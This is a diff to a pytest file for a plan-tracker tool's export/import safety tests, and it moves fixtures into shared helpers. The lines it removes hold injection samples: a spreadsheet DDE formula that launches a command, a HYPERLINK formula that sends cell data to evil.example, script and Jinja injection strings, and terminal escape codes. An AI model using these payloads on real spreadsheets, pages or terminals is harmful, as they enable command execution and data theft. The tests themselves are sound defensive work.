@@ -10,76 +10,20 @@ from __future__ import annotations
 
 import csv
 import io
-import itertools
 import json
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
-from hostile_helpers import CLEAR_ENV, SMALL_PLAN, Workspace, run_cli, settings_text
+from hostile_bases import workspace
+from hostile_helpers import FORMULA_START, Workspace, run_cli
 from sqlalchemy import create_engine, text
 from sqlalchemy.pool import NullPool
 
-BIG = "A hundred kilobytes of commentary. " * 2926  # ~100 KB
-HOSTILE = [
-    "=cmd|' /C calc'!A0",
-    "+SUM(1,2)",
-    "-2+3 minus first",
-    "@SUM(A1:A9)",
-    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
-    "<script>alert('x')</script> owned",
-    "**bold** _em_ [link](javascript:alert(1)) | a | pipe | # heading",
-    "{{ 'JINJA' ~ 'RAN' }} {{ 7*7 }}",
-    "{% for x in range(3) %}LOOPED{% endfor %} {# hidden #}",
-    "\u202eexe.doc \u202d and back",
-    "<img src=x onerror=alert(1)> & < > \" '",
-]
-# Text fields of the plan format (codes, refs, dates and status words are left alone)
-TEXT_KEYS = {
-    "title", "name", "vision", "source", "role", "chair_description", "meets", "area",
-    "description", "unit", "note", "period", "commentary", "by", "text", "owner_text",
-}  # fmt: skip
-LIST_KEYS = {"principles", "commitments"}
 # Control characters and escapes stored by old versions, inserted with SQL
 STORED_CONTROLS = "old\x1b]0;owned\x07\x1b[2J\x1b[31mred\x0cpage\x08\x7f\x9bend"
 EVALUATED = ("JINJARAN", "LOOPEDLOOPED")  # what the Jinja texts above would give
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-
-
-def hostile_plan() -> tuple[dict[str, Any], list[str]]:
-    """small.yaml with every text field hostile (each one different); the texts used."""
-    doc = yaml.safe_load(SMALL_PLAN.read_text("utf-8"))
-    counter = itertools.count(1)
-    used: list[str] = []
-
-    def next_text() -> str:
-        n = next(counter)
-        value = f"{HOSTILE[n % len(HOSTILE)]} #{n}"
-        used.append(value)
-        return value
-
-    def walk(node: Any) -> None:
-        if isinstance(node, dict):
-            for key, value in node.items():
-                if key in TEXT_KEYS and (isinstance(value, str) or value is None):
-                    node[key] = next_text()
-                elif key in LIST_KEYS and isinstance(value, list):
-                    node[key] = [next_text() for _ in value] or [next_text()]
-                else:
-                    walk(value)
-        elif isinstance(node, list):
-            for item in node:
-                walk(item)
-
-    walk(doc)
-    action = doc["actions"][0]
-    used.remove(action["description"])
-    used.remove(action["updates"][-1]["commentary"])
-    action["description"] = "=" + BIG  # 100 KB, starting like a formula
-    action["updates"][-1]["commentary"] = "@" + BIG
-    used += [doc["actions"][0]["description"], doc["actions"][0]["updates"][-1]["commentary"]]
-    return doc, used
 
 
 def strings_in(node: Any) -> set[str]:
@@ -133,27 +77,13 @@ def assert_inert_paper(where: str, body: str) -> None:
 # --- the tests --------------------------------------------------------------------------------
 
 
-@pytest.fixture
-def hostile_loaded(db_url: str, tmp_path: Path) -> tuple[Workspace, list[str]]:
-    """An empty database (each backend in turn) holding the hostile plan, and an escalation
-    with hostile reason and decision."""
-    (tmp_path / "templates").mkdir()
-    config = tmp_path / "tracker.toml"
-    config.write_text(settings_text(db_url, tmp_path), encoding="utf-8")
-    env: dict[str, str | None] = {k: None for k in CLEAR_ENV}
-    env["TRACKER_CONFIG"] = str(config)
-    sqlite_file = Path(db_url.split("///", 1)[1]) if db_url.startswith("sqlite") else None
-    ws = Workspace(
-        "sqlite" if sqlite_file else "postgresql", tmp_path, db_url, sqlite_file, {}, env
-    )
-    doc, used = hostile_plan()
-    path = tmp_path / "hostile.yaml"
-    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
-    ok(ws, "plan", "import", str(path))
-    reason, decision = HOSTILE[5] + " reason", HOSTILE[0] + " decision"
-    ok(ws, "escalations", "raise", "P1-02", "--from", "families-board",
-       "--reason", reason, "--decision", decision)  # fmt: skip
-    return ws, used + [reason, decision]
+@pytest.fixture(params=["sqlite", "postgresql"])
+def hostile_loaded(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Workspace, list[str]]:
+    """A database holding the hostile plan and an escalation with hostile reason and
+    decision (a copy per test on SQLite; restored after a test that changed it on
+    PostgreSQL); the hostile texts it holds."""
+    ws = workspace(request, tmp_path, request.param, "export")
+    return ws, list(ws.texts)
 
 
 def test_plan_export_then_import_gives_every_hostile_text_back_exactly(
